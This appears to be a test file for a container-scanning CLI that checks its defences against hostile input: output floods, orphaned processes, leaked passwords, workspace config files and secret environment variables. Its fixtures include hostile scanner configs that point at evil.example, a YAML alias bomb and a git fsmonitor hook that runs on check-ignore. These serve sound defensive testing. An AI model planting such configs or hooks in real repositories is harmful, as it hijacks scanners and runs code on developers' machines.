// Items 5, 7, 8, 9, 10 and 11 of the hostile-input issue, through the fake tools of
// test/fixtures/bin: output floods, a grandchild that outlives SIGTERM, timeouts past Node's
// timer, secrets cut at the stderr tail, local-archive references, a workspace that configures
// the scanner, and secrets inherited by every child.
import * as assert from 'assert';
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { CliIO } from '../../src/cli/io';
import { main } from '../../src/cli/main';
import { grypeIgnoreOnlyConfig, localSourceProblem, SCANNERS } from '../../src/core/scan';
import { REDACTED, redact } from '../../src/core/signing';
import { CosignError, CosignRunner } from '../../src/node/cosign';
import { allowedNames, childEnvironment } from '../../src/node/env';
import { checkIgnoreArgs, gitIgnores } from '../../src/node/git';
import { DEFAULT_MAX_OUTPUT_BYTES, MAX_STDERR_BYTES, MAX_TIMER_MS, runTool, ToolError } from '../../src/node/process';
import { ScanError, scanImage } from '../../src/node/scanRunner';
import { FAKE_BIN, fakeWorld, FakeWorld, readEntries, splitOurConfig } from './node-fakes';

/** True while the process exists and is not a zombie waiting to be reaped. */
function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return false;
  }
  try {
    const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.slice(stat.lastIndexOf(')') + 2)[0] !== 'Z';
  } catch {
    return process.platform !== 'linux';
  }
}

const FAKE = path.join(FAKE_BIN, 'fake-tool');

interface Run { code: number; stdout: string; stderr: string; ms: number }

async function shipshape(args: string[], env: NodeJS.ProcessEnv, cwd = process.cwd()): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const io: CliIO = { stdout: (t) => { stdout += t; }, stderr: (t) => { stderr += t; }, isTTY: false, env, cwd };
  const started = Date.now();
  const code = await main(args, io);
  return { code, stdout, stderr, ms: Date.now() - started };
}

async function rejection<T extends Error>(p: Promise<unknown>, type: new (...a: any[]) => T): Promise<T> {
  try {
    await p;
  } catch (e) {
    assert.ok(e instanceof type, `expected ${type.name}, got ${String(e)}`);
    return e as T;
  }
  assert.fail('expected a failure');
}

describe('hostile input: tool output is capped (item 5)', function () {
  this.timeout(60000);
  let world: FakeWorld | undefined;
  afterEach(() => { world?.dispose(); world = undefined; });

  it('caps scanner output at 128 MiB by default', () => {
    assert.strictEqual(DEFAULT_MAX_OUTPUT_BYTES, 128 * 1024 * 1024);
  });

  it('a scanner printing more than the cap is stopped: the CLI exits 2 with a clear message (not an abort, not exit 1)', async () => {
    world = fakeWorld(['trivy'], { FAKE_TOOL_MODE: 'flood', FAKE_TOOL_FLOOD_BYTES: String(DEFAULT_MAX_OUTPUT_BYTES + 1024 * 1024) });
    const r = await shipshape(['scan', 'alpine:3.10'], world.env);
    assert.strictEqual(r.code, 2, r.stderr);
    assert.match(r.stderr, /printed more than 134217728 bytes \(128 MiB\) of output, Shipshape's limit; stopped it/);
    assert.strictEqual(r.stdout, '');
  });
});

describe('hostile input: a timeout leaves nothing running (item 7)', function () {
  this.timeout(30000);
  let dir: string;
  beforeEach(() => { dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-hostile-timeout-')); });
  afterEach(() => { fs.rmSync(dir, { recursive: true, force: true }); });

  (process.platform === 'win32' ? it.skip : it)('settles only after the grandchild that ignores SIGTERM is gone (SIGKILL of the group)', async () => {
    const pidfile = path.join(dir, 'pids.json');
    const e = await rejection(runTool(FAKE, { args: [], env: { FAKE_TOOL_MODE: 'orphan', FAKE_TOOL_PIDFILE: pidfile }, timeoutMs: 400 }), ToolError);
    assert.strictEqual(e.code, 'TIMEOUT');
    const { pid, grandchild } = JSON.parse(fs.readFileSync(pidfile, 'utf8'));
    // Checked the moment the promise settles: before, the grandchild kept running after the CLI returned.
    assert.strictEqual(isAlive(grandchild), false, 'the grandchild is gone when runTool settles');
    assert.strictEqual(isAlive(pid), false);
  });

  it('clamps a timeout beyond Node\'s timer (2^31-1 ms) instead of firing at once', async () => {
    const r = await runTool(FAKE, { args: [], env: { FAKE_TOOL_MODE: 'slow', FAKE_TOOL_DELAY_MS: '300' }, timeoutMs: 2 ** 40 });
    assert.strictEqual(r.exitCode, 64, 'the fake ran to its end (64: nothing to do) instead of being stopped at once');
    assert.strictEqual(MAX_TIMER_MS, 2147483647);
  });

  it('shipshape scan --timeout refuses values past 2^31-1 ms and non-numbers, and accepts the largest', async () => {
    const world = fakeWorld(['trivy']);
    try {
      for (const bad of ['3000000', '1e10', 'Infinity', '', 'abc', '-1', '0']) {
        const r = await shipshape(['scan', 'alpine:3.10', `--timeout=${bad}`], world.env);
        assert.strictEqual(r.code, 2, bad);
        assert.match(r.stderr, /--timeout takes/, bad);
      }
      assert.deepStrictEqual(world.calls(), [], 'nothing ran');
      const ok = await shipshape(['scan', 'alpine:3.10', '--timeout', '2147483', '--fail-on', 'none'], { ...world.env, FAKE_TOOL_MODE: 'slow', FAKE_TOOL_DELAY_MS: '200' });
      assert.strictEqual(ok.code, 0, ok.stderr);
    } finally {
      world.dispose();
    }
  });
});

describe('hostile input: redaction of every spelling and of the cut edge (item 8)', function () {
  this.timeout(30000);
  const password = "it's a $ecret pass";

  it('removes shell-quoted, printf %q, $\'…\' and percent-encoded spellings', () => {
    const spelled = [
      password,
      `'it'\\''s a $ecret pass'`,
      `it\\'s\\ a\\ \\$ecret\\ pass`,
      `$'it\\'s a $ecret pass'`,
      encodeURIComponent(password),
      encodeURIComponent(password).toLowerCase(),
      encodeURIComponent(password).replace(/%20/g, '+'),
      [...Buffer.from(password)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
      [...Buffer.from(password)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join(''),
      JSON.stringify(password).slice(1, -1),
      `it's a \\$ecret pass`,
    ];
    for (const s of spelled) {
      const out = redact(`+ cosign sign --key k ${s} done`, [password]);
      assert.strictEqual(out, `+ cosign sign --key k ${REDACTED} done`, s);
    }
  });

  it('removes a secret cut at the start of a tail', () => {
    assert.strictEqual(redact('cret pass\nnext line', [password], { truncatedStart: true }), `${REDACTED}\nnext line`);
    assert.strictEqual(redact('cret pass\nnext line', [password]), 'cret pass\nnext line', 'only when the text is known to be cut');
  });

  it('the 1 MiB stderr tail never starts inside the password (CosignRunner with a fake that prints it at the cut)', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-hostile-redact-'));
    try {
      const stderrFile = path.join(dir, 'stderr.txt');
      // The tail keeps the last MAX_STDERR_BYTES bytes: put the cut in the middle of the password.
      const after = `\n${'y'.repeat(MAX_STDERR_BYTES - 10)}\nError: signing failed\n`;
      const cutInside = password.slice(0, 6);
      fs.writeFileSync(stderrFile, `${'x'.repeat(1000)} password=${password}${after}`);
      assert.ok(Buffer.byteLength(after) + password.length - cutInside.length > MAX_STDERR_BYTES - 20);
      const runner = new CosignRunner({
        cosignPath: FAKE,
        env: { PATH: process.env.PATH, FAKE_TOOL_MODE: 'file', FAKE_TOOL_STDERR_FILE: stderrFile, FAKE_TOOL_EXIT: '1', SHIPSHAPE_PASS_ENV: 'FAKE_*' },
      });
      const e = await rejection(runner.sign({ reference: `ghcr.io/a/b@sha256:${'a'.repeat(64)}`, key: { kind: 'file', path: 'k.key' }, password }), CosignError);
      for (const text of [e.stderr ?? '', e.message]) {
        for (let k = 4; k <= password.length; k++) assert.ok(!text.includes(password.slice(password.length - k)), `no end of the password (${k} chars) in ${text.slice(0, 40)}…`);
      }
      assert.match(e.message, /signing failed/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('hostile input: one endless stderr line (item 8, streamed)', function () {
  this.timeout(30000);
  it('keeps bounded memory for a line without end, and the streamed text never holds the end of the password', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-hostile-line-'));
    const password = 'correct-horse-battery-staple';
    try {
      const stderrFile = path.join(dir, 'stderr.txt');
      // A 2 MiB line: the sink keeps at most 64 KiB of it, cut to its last 4 KiB; wherever the
      // cuts fall, no end of the password may be passed on.
      fs.writeFileSync(stderrFile, `${'x'.repeat(2 * 1024 * 1024)}${password}${'y'.repeat(4096 - 10)}\nError: nope\n`);
      const streamed: string[] = [];
      const runner = new CosignRunner({
        cosignPath: FAKE,
        env: { PATH: process.env.PATH, FAKE_TOOL_MODE: 'file', FAKE_TOOL_STDERR_FILE: stderrFile, FAKE_TOOL_EXIT: '1', SHIPSHAPE_PASS_ENV: 'FAKE_*' },
        onStderr: (t) => streamed.push(t),
      });
      await rejection(runner.sign({ reference: `ghcr.io/a/b@sha256:${'a'.repeat(64)}`, key: { kind: 'file', path: 'k.key' }, password }), CosignError);
      const all = streamed.join('');
      assert.ok(all.length < 140 * 1024, `streamed ${all.length} characters of a 2 MiB line`);
      for (let k = 4; k <= password.length; k++) assert.ok(!all.includes(password.slice(password.length - k)), `no end of the password (${k})`);
      assert.match(all, /Error: nope/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('hostile input: local archives are not image references (item 9)', () => {
  const refused = ['docker-archive:x', 'oci-archive:img', 'kaniko-archive:x', 'dir:etc', 'file:passwd', 'image.tar', 'out/image.tar', 'image.tar:1'];
  it('refuses docker-archive:, oci-archive:, kaniko-archive:, dir:, file: and *.tar for every scanner', () => {
    for (const ref of refused) {
      assert.ok(localSourceProblem(ref), ref);
      for (const adapter of Object.values(SCANNERS)) assert.throws(() => adapter.argv(ref), /local archive|archive on disk/, `${adapter.id} ${ref}`);
    }
    for (const ok of ['docker:24', 'alpine:3.19', 'ghcr.io/org/tar:1', 'ghcr.io/org/app.tarball:1']) assert.strictEqual(localSourceProblem(ok), undefined, ok);
  });

  it('scanImage with Snyk refuses them before anything runs', async () => {
    const world = fakeWorld(['snyk']);
    try {
      for (const ref of refused) {
        const e = await rejection(scanImage(ref, { scanner: 'snyk', env: world.env }), ScanError);
        assert.strictEqual(e.code, 'INVALID_REFERENCE', ref);
      }
      assert.deepStrictEqual(world.calls(), []);
    } finally {
      world.dispose();
    }
  });
});

describe('hostile input: the workspace does not configure the scanner (item 10)', function () {
  this.timeout(20000);
  let world: FakeWorld;
  let repo: string;
  beforeEach(() => {
    world = fakeWorld(['trivy', 'grype']);
    repo = path.join(world.dir, 'repo');
    fs.mkdirSync(repo);
    fs.writeFileSync(path.join(repo, 'trivy.yaml'), 'output: /tmp/pwned\nserver: http://evil.example\ndb:\n  repository: evil.example/db\n');
  });
  afterEach(() => world.dispose());

  it('runs trivy with --config pointing at an empty file of ours, not the workspace trivy.yaml', async () => {
    await scanImage('alpine:3.10', { scanner: 'trivy', env: world.env, cwd: repo });
    const [call] = world.entries();
    const { config } = splitOurConfig(call.argv);
    assert.ok(config && !config.startsWith(repo), `our config, not the workspace's: ${config}`);
    assert.strictEqual(call.cwd, repo, 'the workspace is still the working directory (.trivyignore is honoured)');
    assert.doesNotMatch(call.configText ?? '', /output|server|repository/);
    assert.match(call.configText ?? '', /^# Written by Shipshape[^\n]*\n\{\}\n$/);
    assert.ok(!call.argv.includes('--ignorefile'), 'a plain .trivyignore (or none) is left to trivy');
    assert.ok(!fs.existsSync(config!), 'our config is removed after the run');
  });

  (process.platform === 'win32' ? it.skip : it)('gives trivy an empty ignore file of ours when .trivyignore is a FIFO or a link', async () => {
    execFileSync('mkfifo', [path.join(repo, '.trivyignore')]);
    await scanImage('alpine:3.10', { scanner: 'trivy', env: world.env, cwd: repo, timeoutMs: 5000 });
    const { argv } = world.entries()[0];
    const i = argv.indexOf('--ignorefile');
    assert.ok(i > 0 && !argv[i + 1].startsWith(repo), argv.join(' '));
  });

  it('runs grype with --config holding only the ignore rules of the workspace .grype.yaml', async () => {
    fs.writeFileSync(path.join(repo, '.grype.yaml'), [
      'db:', '  update-url: http://evil.example/listing.json', 'output: template', 'file: /tmp/pwned',
      'registry:', '  insecure-skip-tls-verify: true',
      'ignore:', '  - vulnerability: CVE-1999-0002', '    package: {name: openssl, version: "1.0", evil: x}', '    evil: y',
    ].join('\n'));
    await scanImage('ghcr.io/org/app:1', { scanner: 'grype', env: world.env, cwd: repo });
    const [call] = world.entries();
    const text = call.configText ?? '';
    assert.doesNotMatch(text, /evil|update-url|pwned|insecure|template/);
    const doc = JSON.parse(text.split('\n')[1]);
    assert.deepStrictEqual(doc, { ignore: [{ vulnerability: 'CVE-1999-0002', package: { name: 'openssl', version: '1.0' } }] });
  });

  it('an unreadable or hostile .grype.yaml gives an empty ignore list (alias bomb, not YAML, not a mapping)', () => {
    const bomb = 'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\nignore: [*d]\n';
    for (const text of [bomb, '{{{', '- a\n- b\n', undefined]) assert.match(grypeIgnoreOnlyConfig(text), /\{"ignore":\[\]\}/);
  });

  it('runs git with core.fsmonitor off, so a repository hook does not run', async function () {
    let git: string;
    try {
      git = execFileSync('sh', ['-c', 'command -v git']).toString().trim();
    } catch {
      this.skip();
      return;
    }
    assert.deepStrictEqual(checkIgnoreArgs('keys/cosign.key').slice(0, 2), ['-c', 'core.fsmonitor=']);
    const marker = path.join(world.dir, 'hook-ran');
    const hook = path.join(world.dir, 'hook.sh');
    fs.writeFileSync(hook, `#!/bin/sh\ntouch '${marker}'\n`, { mode: 0o755 });
    execFileSync(git, ['init', '-q', repo]);
    execFileSync(git, ['-C', repo, 'config', 'core.fsmonitor', hook]);
    fs.writeFileSync(path.join(repo, '.gitignore'), '*.key\n');
    // The attack is real: a plain `git check-ignore` runs the repository's hook.
    execFileSync(git, ['check-ignore', '-q', 'cosign.key'], { cwd: repo, env: { PATH: process.env.PATH, HOME: world.dir }, stdio: 'ignore' });
    assert.strictEqual(fs.existsSync(marker), true, 'without -c core.fsmonitor= the hook runs');
    fs.rmSync(marker);
    assert.strictEqual(await gitIgnores(repo, 'cosign.key', { git }), true);
    assert.strictEqual(await gitIgnores(repo, 'cosign.pub', { git }), false);
    assert.strictEqual(fs.existsSync(marker), false, 'the fsmonitor hook did not run');
  });
});

describe('hostile input: each child gets only the environment it needs (item 11)', function () {
  this.timeout(20000);
  const secrets = { COSIGN_PASSWORD: 'pw', SNYK_TOKEN: 'snyk', GITHUB_TOKEN: 'gh', NPM_TOKEN: 'npm', AWS_SECRET_ACCESS_KEY: 'aws', GIT_DIR: '/evil', VAULT_TOKEN: 'v' };

  it('filters by allow-list, case-insensitively, with SHIPSHAPE_PASS_ENV for more', () => {
    const base = { PATH: '/bin', Path: '/win', HOME: '/h', LC_ALL: 'C', TRIVY_DB_REPOSITORY: 'r', ...secrets, EXTRA_ONE: '1', SHIPSHAPE_PASS_ENV: 'EXTRA_*,OTHER' };
    const trivy = childEnvironment('trivy', base);
    assert.deepStrictEqual(Object.keys(trivy).sort(), ['AWS_SECRET_ACCESS_KEY', 'EXTRA_ONE', 'HOME', 'LC_ALL', 'PATH', 'Path', 'TRIVY_DB_REPOSITORY']);
    assert.ok(!('SNYK_TOKEN' in childEnvironment('grype', base)));
    assert.strictEqual(childEnvironment('snyk', base).SNYK_TOKEN, 'snyk');
    assert.deepStrictEqual(Object.keys(childEnvironment('git', base)).sort(), ['EXTRA_ONE', 'HOME', 'LC_ALL', 'PATH', 'Path']);
    assert.strictEqual(childEnvironment('cosign', base).COSIGN_PASSWORD, 'pw');
    assert.ok(!('COSIGN_PASSWORD' in childEnvironment('docker', base)));
    assert.deepStrictEqual(childEnvironment('generic', { A: '1', SHIPSHAPE_PASS_ENV: '*' }), {}, 'a bare * lets nothing more through');
    assert.strictEqual(childEnvironment('generic', {}, { X: 'set on purpose' }).X, 'set on purpose');
    assert.ok(allowedNames('trivy').includes('TRIVY_*'));
  });

  it('trivy, grype and snyk runs see no COSIGN_PASSWORD, GITHUB_TOKEN or NPM_TOKEN; snyk alone sees SNYK_TOKEN', async () => {
    const world = fakeWorld(['trivy', 'grype', 'snyk'], { ...secrets, TRIVY_INSECURE: 'false' });
    try {
      await scanImage('alpine:3.10', { scanner: 'trivy', env: world.env });
      await scanImage('ghcr.io/org/app:1', { scanner: 'grype', env: world.env });
      await scanImage('alpine:3.10', { scanner: 'snyk', env: world.env });
      const [trivy, grype, snyk] = world.entries();
      for (const call of [trivy, grype, snyk]) {
        for (const name of ['COSIGN_PASSWORD', 'GITHUB_TOKEN', 'NPM_TOKEN', 'GIT_DIR', 'VAULT_TOKEN']) assert.ok(!call.envKeys!.includes(name), `${call.tool} got ${name}`);
      }
      assert.ok(trivy.envKeys!.includes('TRIVY_INSECURE'));
      assert.ok(!trivy.envKeys!.includes('SNYK_TOKEN') && !grype.envKeys!.includes('SNYK_TOKEN'));
      assert.ok(snyk.envKeys!.includes('SNYK_TOKEN'));
    } finally {
      world.dispose();
    }
  });

  it('cosign gets the password it is given; docker (digest lookup) never sees COSIGN_PASSWORD', async () => {
    const world = fakeWorld(['docker'], { ...secrets });
    try {
      const runner = new CosignRunner({ dockerPath: path.join(world.pathVar, 'docker'), env: world.env });
      await runner.resolveDigest('alpine:3.10');
      const [docker] = readEntries(world.log);
      assert.strictEqual(docker.tool, 'docker');
      assert.ok(!docker.envKeys!.includes('COSIGN_PASSWORD') && !docker.envKeys!.includes('SNYK_TOKEN'));
    } finally {
      world.dispose();
    }
  });
});
